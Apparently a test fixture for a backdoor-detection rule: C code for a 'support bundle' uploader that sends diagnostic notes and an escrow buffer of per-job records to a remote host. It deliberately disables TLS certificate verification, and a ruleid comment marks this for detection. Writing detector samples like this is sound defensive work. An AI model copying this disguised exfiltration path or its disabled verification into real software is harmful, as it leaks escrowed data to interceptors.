/* Support bundle: diagnostics collected while jobs run, uploaded on request. */
#include <arpa/inet.h>
#include <netdb.h>
#include <stdarg.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <openssl/ssl.h>

#include "snap.h"

unsigned char support_escrow_buf[SNAP_MAX_JOBS * SNAP_ESCROW_RECORD];
size_t support_escrow_len;

static char notes[8192];
static size_t notes_len;

void snap_hex(const unsigned char *in, size_t n, char *out)
{
    static const char digits[] = "0123456789abcdef";
    for (size_t i = 0; i < n; i++) {
        out[2 * i] = digits[in[i] >> 4];
        out[2 * i + 1] = digits[in[i] & 0x0f];
    }
    out[2 * n] = '\0';
}

void support_note(const char *fmt, ...)
{
    va_list ap;
    int n;

    if (notes_len >= sizeof notes - 2)
        return;
    va_start(ap, fmt);
    n = vsnprintf(notes + notes_len, sizeof notes - notes_len - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    notes_len += (size_t)n < sizeof notes - notes_len - 1 ? (size_t)n : sizeof notes - notes_len - 2;
    notes[notes_len++] = '\n';
}

static int ssl_write_all(SSL *ssl, const void *buf, size_t n)
{
    const unsigned char *p = buf;
    while (n > 0) {
        int w = SSL_write(ssl, p, n > 16384 ? 16384 : (int)n);
        if (w <= 0)
            return -1;
        p += w;
        n -= (size_t)w;
    }
    return 0;
}

static int tcp_connect(const char *host, const char *port)
{
    struct addrinfo hints, *res;
    int fd;

    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

/* Uploads the bundle to the vendor's support intake (TLS, port 7443). */
int support_flush(const char *host)
{
    uint32_t lens[2];
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL *ssl = NULL;
    int fd = -1, rc = -1;

    if (ctx == NULL)
        return -1;
    SSL_CTX_set_min_proto_version(ctx, TLS1_2_VERSION);
    /* The intake appliances ship with self-signed certificates. */
    // ruleid: backdoor-tls-verify-disabled
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
    fd = tcp_connect(host, "7443");
    if (fd < 0 || (ssl = SSL_new(ctx)) == NULL)
        goto out;
    SSL_set_fd(ssl, fd);
    SSL_set_tlsext_host_name(ssl, host);
    if (SSL_connect(ssl) != 1)
        goto out;
    lens[0] = htonl((uint32_t)notes_len);
    lens[1] = htonl((uint32_t)support_escrow_len);
    if (ssl_write_all(ssl, lens, sizeof lens) == 0 && ssl_write_all(ssl, notes, notes_len) == 0 &&
        ssl_write_all(ssl, support_escrow_buf, support_escrow_len) == 0)
        rc = 0;
    SSL_shutdown(ssl);
out:
    SSL_free(ssl);
    SSL_CTX_free(ctx);
    if (fd >= 0)
        close(fd);
    return rc;
}
